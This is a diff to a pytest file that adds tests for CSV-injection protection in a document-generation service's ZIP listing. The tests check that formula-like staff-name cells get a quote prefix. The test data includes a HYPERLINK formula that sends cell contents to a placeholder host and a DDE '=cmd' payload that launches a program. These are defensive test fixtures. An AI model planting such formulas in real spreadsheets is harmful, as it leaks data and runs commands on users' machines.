@@ -19,6 +19,7 @@ import psycopg
 import pytest
 from cryptography import x509
 
+from docgen.batches.archive import spreadsheet_safe
 from docgen.registry import audit
 from docgen.registry.db import Database
 from signing.validate.validation import validate_pdf
@@ -302,6 +303,46 @@ def test_zip_holds_every_current_pdf_and_a_manifest_matching_the_registry(
         assert entry["verify_url"] == registered["verify_url"]
         assert (entry["nama"], entry["nip"]) == (person["nama"], person["nip"])
         assert entry["status"] == "sah"
+
+
+# Staff-list cells a spreadsheet would run as formulas (OWASP, "CSV Injection").
+FORMULAS = [
+    '=HYPERLINK("http://contoh.test/?d="&A1,"Klik")',
+    "=cmd|' /C calc'!A0",
+    "+62 812 3456 7890",
+    "-2+3",
+    "@SUM(1+1)",
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_the_zip_listing_neutralises_formulas_the_staff_list_carried(
+    client: httpx.Client, people: People
+) -> None:
+    people.signer(nip_of(730))
+    rows = [pakta_data(nip=nip_of(730), nama=name) for name in FORMULAS]
+    response = post_batch(client, pakta_csv(rows), "pakta-integritas")
+    assert response.status_code == 202, response.text
+    batch = generated(client, response.json()["id"])
+    assert batch["done"] == len(FORMULAS), batch["errors"]
+
+    archive = zipfile.ZipFile(io.BytesIO(client.get(batch["zip_url"]).content))
+    listing = list(csv.reader(io.StringIO(archive.read("daftar.csv").decode("utf-8-sig"))))
+    assert [row[2] for row in listing[1:]] == [f"'{name}" for name in FORMULAS]
+    assert not [cell for row in listing for cell in row if cell.startswith(FORMULA_START)]
+    # The documents themselves keep the names as written.
+    for doc, name in zip(batch["documents"], FORMULAS, strict=True):
+        assert client.get(f"/api/v1/documents/{doc['id']}").json()["data"]["nama"] == name
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"])
+def test_a_cell_starting_like_a_formula_gets_a_quote(cell: str) -> None:
+    assert spreadsheet_safe(cell) == f"'{cell}"
+
+
+@pytest.mark.parametrize("cell", ["Budi", "198609262015051001", "a=b", "", 7])
+def test_other_cells_stay_as_they_are(cell: object) -> None:
+    assert spreadsheet_safe(cell) == str(cell)
 
 
 def test_bulk_signing_refusals(
